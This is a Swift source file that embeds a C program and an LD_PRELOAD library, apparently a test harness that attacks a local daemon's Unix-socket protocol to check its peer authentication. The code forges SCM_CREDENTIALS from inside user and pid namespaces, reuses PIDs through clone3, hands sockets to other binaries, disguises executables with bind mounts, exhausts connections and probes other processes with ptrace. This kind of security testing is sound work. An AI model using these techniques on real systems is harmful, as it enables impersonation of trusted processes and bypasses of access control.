/// The program that attackers and victims run, in C: it speaks the protocol by hand, so that it can break it.
enum AttackSource {
    /// `MODE SOCKET FRAME…`: FRAME is a file with a whole frame whose nonce is zero. Writes the frame it got as an answer
    /// in hexadecimal digits and a newline.
    static let program = #"""
        #define _GNU_SOURCE
        #include <fcntl.h>
        #include <limits.h>
        #include <grp.h>
        #include <sched.h>
        #include <signal.h>
        #include <linux/sched.h>
        #include <stdint.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/mount.h>
        #include <sys/ptrace.h>
        #include <sys/socket.h>
        #include <sys/stat.h>
        #include <sys/syscall.h>
        #include <sys/un.h>
        #include <sys/wait.h>
        #include <unistd.h>
        #include <errno.h>

        static unsigned char frame[1 << 20], reply[1 << 17], nonce[16];

        static void fail(const char *what) {
            fprintf(stderr, "%s: %s\n", what, strerror(errno));
            _exit(99);
        }

        static int connect_to(const char *path) {
            struct sockaddr_un address = {.sun_family = AF_UNIX};
            strncpy(address.sun_path, path, sizeof address.sun_path - 1);
            int s = socket(AF_UNIX, SOCK_SEQPACKET, 0);
            if (s < 0 || connect(s, (struct sockaddr *)&address, sizeof address) != 0) fail("connect");
            return s;
        }

        /* 0 at the end of the stream. */
        static ssize_t receive(int s) {
            ssize_t count = recv(s, reply, sizeof reply, 0);
            /* The daemon closed without reading everything; what it said before is still to be read. */
            if (count < 0 && errno == ECONNRESET) count = recv(s, reply, sizeof reply, 0);
            return count < 0 ? 0 : count;
        }

        static void show(ssize_t count) {
            for (ssize_t i = 0; i < count; i++) printf("%02x", reply[i]);
            printf("\n");
            fflush(stdout);
        }

        static void send_file(int s, const char *path) {
            int file = open(path, O_RDONLY | O_CLOEXEC);
            if (file < 0) fail(path);
            ssize_t count = read(file, frame, sizeof frame);
            close(file);
            memcpy(frame + 24, nonce, 16);
            send(s, frame, count, MSG_NOSIGNAL);
        }

        static void send_hello(int s) {
            unsigned char hello[40] = {0x4C, 0x4B, 0x59, 0x53, 1, 2};
            memcpy(hello + 24, nonce, 16);
            send(s, hello, sizeof hello, MSG_NOSIGNAL);
        }

        /* Takes the greeting and says hello; 0 if the daemon refused, and its words are in `reply`. */
        static ssize_t handshake(int s) {
            ssize_t count = receive(s);
            if (count < 40 || reply[5] != 1) return -count;
            memcpy(nonce, reply + 24, 16);
            send_hello(s);
            count = receive(s);
            return count >= 40 && reply[5] == 3 ? 1 : -count;
        }

        static int ask(int s, const char *request) {
            ssize_t outcome = handshake(s);
            if (outcome <= 0) { show(-outcome); return 0; }
            send_file(s, request);
            show(receive(s));
            return 0;
        }

        static void pause_for_input(void) {
            char byte;
            printf("ready\n");
            fflush(stdout);
            while (read(0, &byte, 1) < 0 && errno == EINTR) {}
        }

        /* The same with one request after the other. */
        static int talk(int s, char **requests) {
            ssize_t outcome = handshake(s);
            if (outcome <= 0) { show(-outcome); return 0; }
            for (; *requests; requests++) {
                send_file(s, *requests);
                show(receive(s));
            }
            return 0;
        }

        /* Registers as an agent, and asks for a prompt until there is one; what it is shown it shows. */
        static int serve_prompt(int s, const char *registration, const char *question) {
            static const unsigned char nothing[] = {0x30, 6, 2, 1, 8, 2, 1, 1};
            ssize_t outcome = handshake(s);
            if (outcome <= 0) { show(-outcome); return 0; }
            send_file(s, registration);
            show(receive(s));
            printf("ready\n");
            fflush(stdout);
            for (;;) {
                send_file(s, question);
                ssize_t count = receive(s);
                if (count < 48 || memcmp(reply + count - 8, nothing, 8) != 0) { show(count); return 0; }
            }
        }

        /* Takes as many connections as it is given, and keeps them. */
        static int hoard(const char *path) {
            int count = 0;
            while (handshake(connect_to(path)) > 0) count++;
            printf("%d\n", count);
            pause_for_input();
            return 0;
        }

        static void write_text(const char *path, const char *text) {
            int file = open(path, O_WRONLY | O_CLOEXEC);
            if (file < 0 || write(file, text, strlen(text)) < 0) fail(path);
            close(file);
        }

        /* Sends a frame in the name of another process: the ruler of a pid namespace may name any process of it. */
        static void send_as(int s, pid_t pid, const void *bytes, size_t count) {
            struct iovec part = {(void *)bytes, count};
            union { struct cmsghdr header; char bytes[CMSG_SPACE(sizeof(struct ucred))]; } control = {0};
            struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control,
                                     .msg_controllen = sizeof control};
            struct ucred sender = {.pid = pid, .uid = getuid(), .gid = getgid()};
            control.header.cmsg_level = SOL_SOCKET;
            control.header.cmsg_type = SCM_CREDENTIALS;
            control.header.cmsg_len = CMSG_LEN(sizeof sender);
            memcpy(CMSG_DATA(&control.header), &sender, sizeof sender);
            if (sendmsg(s, &message, MSG_NOSIGNAL) < 0) fail("sendmsg in another name");
        }

        /* A pipe that takes nothing more: whatever writes into it stands still. */
        static int full_pipe(void) {
            int ends[2];
            if (pipe(ends) != 0) fail("pipe");
            fcntl(ends[1], F_SETFL, O_NONBLOCK);
            while (write(ends[1], reply, sizeof reply) > 0) {}
            fcntl(ends[1], F_SETFL, 0);
            return ends[1];
        }

        /* In user and pid namespaces of its own: one process connects and becomes `words`, held in its loader before any
           code of it runs; the other speaks in its name. */
        static int forge(const char *path, const char *request, char **words) {
            char map[64];
            uid_t user = getuid();
            gid_t group = getgid();
            if (unshare(CLONE_NEWUSER) != 0) fail("unshare user");
            write_text("/proc/self/setgroups", "deny");
            snprintf(map, sizeof map, "%d %d 1", user, user);
            write_text("/proc/self/uid_map", map);
            snprintf(map, sizeof map, "%d %d 1", group, group);
            write_text("/proc/self/gid_map", map);
            if (unshare(CLONE_NEWPID) != 0) fail("unshare pid");
            pid_t first = fork();
            if (first != 0) { waitpid(first, NULL, 0); return 0; }
            int s = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0), began[2];
            if (s < 0 || pipe2(began, O_CLOEXEC) != 0) fail("socket");
            pid_t victim = fork();
            if (victim == 0) {
                struct sockaddr_un address = {.sun_family = AF_UNIX};
                strncpy(address.sun_path, path, sizeof address.sun_path - 1);
                if (connect(s, (struct sockaddr *)&address, sizeof address) != 0) fail("connect");
                dup2(full_pipe(), 2);
                setenv("LD_DEBUG", "all", 1);
                execv(words[0], words);
                _exit(99);
            }
            close(began[1]);
            char byte;
            while (read(began[0], &byte, 1) < 0 && errno == EINTR) {}
            pause_for_input();
            ssize_t count = receive(s);
            if (count >= 40 && reply[5] == 1) {
                unsigned char hello[40] = {0x4C, 0x4B, 0x59, 0x53, 1, 2};
                memcpy(nonce, reply + 24, 16);
                memcpy(hello + 24, nonce, 16);
                send_as(s, victim, hello, sizeof hello);
                count = receive(s);
            }
            if (count >= 40 && reply[5] == 3) {
                int file = open(request, O_RDONLY | O_CLOEXEC);
                ssize_t size = read(file, frame, sizeof frame);
                memcpy(frame + 24, nonce, 16);
                send_as(s, victim, frame, size);
                count = receive(s);
            }
            show(count);
            _exit(0);
        }

        static void wait_for_program(pid_t pid, const char *program) {
            char link[64], there[PATH_MAX], wanted[PATH_MAX];
            snprintf(link, sizeof link, "/proc/%d/exe", pid);
            if (!realpath(program, wanted)) fail(program);
            for (;;) {
                ssize_t count = readlink(link, there, sizeof there - 1);
                if (count > 0 && (there[count] = 0, strcmp(there, wanted) == 0)) return;
                sched_yield();
            }
        }

        /* Becomes `program` while a child keeps the socket. `queued`: what the daemon is told before. */
        static int hand_off(const char *path, const char *request, char *program, int queued) {
            int s = connect_to(path);
            pid_t parent = getpid();
            if (queued) { send_hello(s); send_file(s, request); }
            int gone[2];
            if (pipe(gone) != 0) fail("pipe");
            if (fork() == 0) {
                wait_for_program(parent, program);
                pause_for_input();
                if (queued) {
                    ssize_t count = receive(s);
                    if (count >= 40 && reply[5] == 1) count = receive(s);
                    if (count >= 40 && reply[5] == 3) count = receive(s);
                    show(count);
                } else {
                    ask(s, request);
                }
                kill(parent, SIGKILL);
                _exit(0);
            }
            char *arguments[] = {program, "rest", NULL};
            execv(program, arguments);
            fail("execv");
            return 1;
        }

        /* After a good handshake the connection goes to another program: by inheritance, or in a message. */
        static int give_away(const char *path, const char *request, char *program, int by_message) {
            int s = connect_to(path), pair[2];
            ssize_t outcome = handshake(s);
            if (outcome <= 0) { show(-outcome); return 0; }
            if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) fail("socketpair");
            pid_t child = fork();
            if (child == 0) {
                if (by_message) { close(s); dup2(pair[1], 3); } else { dup2(s, 3); }
                char text[33];
                for (int i = 0; i < 16; i++) snprintf(text + 2 * i, 3, "%02x", nonce[i]);
                char *arguments[] = {program, by_message ? "take" : "use", text, (char *)request, NULL};
                execv(program, arguments);
                fail("execv");
            }
            if (by_message) {
                char byte = 0;
                struct iovec part = {&byte, 1};
                union { struct cmsghdr header; char bytes[CMSG_SPACE(sizeof(int))]; } control = {0};
                struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control,
                                         .msg_controllen = sizeof control};
                control.header.cmsg_level = SOL_SOCKET;
                control.header.cmsg_type = SCM_RIGHTS;
                control.header.cmsg_len = CMSG_LEN(sizeof(int));
                memcpy(CMSG_DATA(&control.header), &s, sizeof s);
                if (sendmsg(pair[0], &message, 0) != 1) fail("sendmsg");
            }
            waitpid(child, NULL, 0);
            return 0;
        }

        static int take_over(const char *text, const char *request, int by_message) {
            int s = 3;
            for (int i = 0; i < 16; i++) sscanf(text + 2 * i, "%2hhx", &nonce[i]);
            if (by_message) {
                char byte;
                struct iovec part = {&byte, 1};
                union { struct cmsghdr header; char bytes[CMSG_SPACE(sizeof(int))]; } control;
                struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control,
                                         .msg_controllen = sizeof control};
                if (recvmsg(3, &message, 0) != 1) fail("recvmsg");
                memcpy(&s, CMSG_DATA(&control.header), sizeof s);
            }
            send_file(s, request);
            show(receive(s));
            return 0;
        }

        /* Runs `disguised` under the path of `shown`, in a mount namespace of its own. */
        static int disguise(char *disguised, char *shown, char **arguments) {
            if (unshare(CLONE_NEWNS) != 0) fail("unshare");
            if (mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0) fail("mount private");
            if (strcmp(disguised, shown) != 0 && mount(disguised, shown, NULL, MS_BIND, NULL) != 0) fail("mount bind");
            execv(shown, arguments);
            fail("execv");
            return 1;
        }

        /* Connects, ends, and has `program` started under the number that it had. */
        static int reuse(const char *path, const char *request, char *program) {
            int s = connect_to(path), ends[2];
            if (pipe(ends) != 0) fail("pipe");
            pid_t first = getpid();
            if (fork() == 0) {
                /* A process group keeps its number. */
                setsid();
                /* The starter of the first process waits for descriptors of it to be closed. */
                for (int i = 3; i < 1024; i++) if (i != s && i != ends[0]) close(i);
                char byte;
                /* The end of the pipe says that the first process is gone; the one that waits for it takes its number away. */
                while (read(ends[0], &byte, 1) < 0 && errno == EINTR) {}
                while (kill(first, 0) == 0) sched_yield();
                struct clone_args arguments = {.exit_signal = SIGCHLD, .set_tid = (uint64_t)(uintptr_t)&first,
                                               .set_tid_size = 1};
                long child = syscall(SYS_clone3, &arguments, sizeof arguments);
                if (child == 0) {
                    close(s);
                    char *words[] = {program, "rest", NULL};
                    execv(program, words);
                    _exit(99);
                }
                if (child < 0) fail("clone3");
                wait_for_program(first, program);
                pause_for_input();
                ask(s, request);
                kill(first, SIGKILL);
                _exit(0);
            }
            _exit(0);
        }

        /* A listening socket for anybody, passed to `program` as systemd passes it. */
        static int serve(const char *path, char **arguments) {
            struct sockaddr_un address = {.sun_family = AF_UNIX};
            strncpy(address.sun_path, path, sizeof address.sun_path - 1);
            int s = socket(AF_UNIX, SOCK_SEQPACKET, 0);
            if (bind(s, (struct sockaddr *)&address, sizeof address) != 0 || chmod(path, 0666) != 0) fail("bind");
            if (listen(s, 16) != 0) fail("listen");
            if (s != 3 && (dup2(s, 3) != 3 || close(s) != 0)) fail("dup2");
            char number[16];
            snprintf(number, sizeof number, "%d", getpid());
            setenv("LISTEN_PID", number, 1);
            setenv("LISTEN_FDS", "1", 1);
            execv(arguments[0], arguments);
            fail("execv");
            return 1;
        }

        static void become(const char *user) {
            uid_t number = (uid_t)atoi(user);
            if (setgroups(0, NULL) != 0 || setresgid(number, number, number) != 0 || setresuid(number, number, number) != 0)
                fail("setresuid");
        }

        static int trace(const char *number) {
            pid_t pid = (pid_t)atoi(number);
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/mem", pid);
            int memory = open(path, O_RDONLY | O_CLOEXEC) >= 0;
            snprintf(path, sizeof path, "/proc/%d/environ", pid);
            char byte;
            int file = open(path, O_RDONLY | O_CLOEXEC);
            int environment = file >= 0 && read(file, &byte, 1) == 1;
            long attached = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
            if (attached == 0) { waitpid(pid, NULL, 0); ptrace(PTRACE_DETACH, pid, NULL, NULL); }
            printf("memory %s, environment %s, trace %s\n", memory ? "open" : "refused",
                   environment ? "open" : "refused", attached == 0 ? "open" : "refused");
            return 0;
        }

        int main(int count, char **words) {
            const char *mode = count > 1 ? words[1] : "";
            if (!strcmp(mode, "ask")) return ask(connect_to(words[2]), words[3]);
            if (!strcmp(mode, "wait-ask")) { pause_for_input(); return ask(connect_to(words[2]), words[3]); }
            if (!strcmp(mode, "ask-twice")) {
                int s = connect_to(words[2]);
                ask(s, words[3]);
                pause_for_input();
                send_file(s, words[3]);
                show(receive(s));
                return 0;
            }
            if (!strcmp(mode, "talk")) return talk(connect_to(words[2]), words + 3);
            if (!strcmp(mode, "serve-prompt")) return serve_prompt(connect_to(words[2]), words[3], words[4]);
            if (!strcmp(mode, "hoard")) return hoard(words[2]);
            if (!strcmp(mode, "forge")) return forge(words[2], words[3], words + 4);
            if (!strcmp(mode, "rest")) { for (;;) pause(); }
            if (!strcmp(mode, "hand-off")) return hand_off(words[2], words[3], words[4], 0);
            if (!strcmp(mode, "hand-off-queued")) return hand_off(words[2], words[3], words[4], 1);
            if (!strcmp(mode, "inherit")) return give_away(words[2], words[3], words[4], 0);
            if (!strcmp(mode, "pass")) return give_away(words[2], words[3], words[4], 1);
            if (!strcmp(mode, "use")) return take_over(words[2], words[3], 0);
            if (!strcmp(mode, "take")) return take_over(words[2], words[3], 1);
            if (!strcmp(mode, "disguise")) return disguise(words[2], words[3], words + 3);
            if (!strcmp(mode, "reuse")) return reuse(words[2], words[3], words[4]);
            if (!strcmp(mode, "serve")) return serve(words[2], words + 3);
            if (!strcmp(mode, "as")) {
                become(words[2]);
                if (getenv("LATER_PRELOAD")) setenv("LD_PRELOAD", getenv("LATER_PRELOAD"), 1);
                execv(words[3], words + 3);
                fail("execv");
            }
            if (!strcmp(mode, "trace")) return trace(words[2]);
            fprintf(stderr, "unknown mode %s\n", mode);
            return 98;
        }
        """#

    /// The same as a library that is loaded into another program and asks in its name before that program begins.
    static let library =
        program.replacing("int main(int count", with: "int unused(int count") + #"""

            __attribute__((constructor)) static void begin(void) {
                const char *path = getenv("STOLEN_SOCKET"), *request = getenv("STOLEN_REQUEST");
                if (!path || !request) return;
                printf("preloaded\n");
                ask(connect_to(path), request);
                _exit(0);
            }
            """#
}
